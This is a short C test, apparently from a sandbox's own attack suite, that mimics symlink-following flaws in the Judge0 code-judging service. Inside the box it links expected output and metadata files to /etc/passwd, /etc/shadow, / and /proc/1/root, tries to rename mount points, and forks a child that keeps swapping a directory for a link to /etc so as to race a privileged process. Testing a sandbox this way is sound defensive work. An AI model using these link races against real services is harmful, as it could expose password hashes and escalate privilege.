/* SPDX-License-Identifier: MIT */
/*
 * wins: a privileged process that follows: CVE-2024-28185 and 28189 (Judge0: a link where the judge writes or chowns a file), links named as what the
 *       service and the next step touch, a directory swapped for a link while the box works
 * rule: design 4.1 (privileged code never opens a path in a tree that untrusted code wrote), 20
 * expect: ok
 * control: none: there is no judge to follow them bare
 * core: yes
 */
#include "attack.h"

int main(void)
{
	static const char *const names[] = {"/box/run", "/box/compile", "/box/main.c", "/box/stdin", "/box/stdout", "/box/stderr",
	        "/box/meta", "/box/metadata.txt", "/box/additional_files.zip", "/tmp/.serapis-program", "/tmp/output", "/box/.git",
	        "/box/artifacts", "/dev/shm/x", "/box/lock", "/box/attack.h"};
	static const char *const targets[] = {
	        "/etc/passwd", "/etc/shadow", "/", "/proc/1/root", "/proc/self/exe", "/usr/bin/env", "../../../../../etc/passwd"};
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		unlink(names[i]);
		if (symlink(targets[i % 7], names[i]) < 0) say("no link %s %s", names[i], strerrorname_np(errno));
	}
	/* The tree itself, in the place of its directories: they are mount points. */
	tried("rename-box", rename("/box", "/tmp/box"));
	tried("rename-tmp", rename("/tmp", "/box/tmp"));
	tried("remove-box", rmdir("/box"));
	/* A child that goes on swapping until the last moment. */
	if (fork() == 0)
		for (;;) {
			mkdir("/box/d", 0700);
			rename("/box/d", "/box/e");
			symlink("/etc", "/box/d");
			unlink("/box/d");
			rmdir("/box/e");
		}
	nap_ms(50);
	return end();
}
